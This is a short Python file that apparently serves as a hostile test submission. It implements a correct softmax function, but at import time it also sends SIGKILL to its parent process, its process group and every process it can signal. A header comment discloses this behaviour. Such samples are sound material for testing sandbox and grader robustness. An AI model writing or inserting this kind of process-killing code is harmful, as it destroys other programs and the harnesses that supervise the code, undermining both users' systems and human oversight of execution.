# Tries to kill its parent, its process group, and every process it may signal. Correct otherwise.
import os
import signal
import numpy as np


def softmax(x, axis=-1):
    e = np.exp(x - np.max(x, axis=axis, keepdims=True))
    return e / np.sum(e, axis=axis, keepdims=True)

for target in (os.getppid(), 0, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except (OSError, ValueError):
        pass
try:
    os.killpg(os.getpgid(0), signal.SIGKILL)
except OSError:
    pass
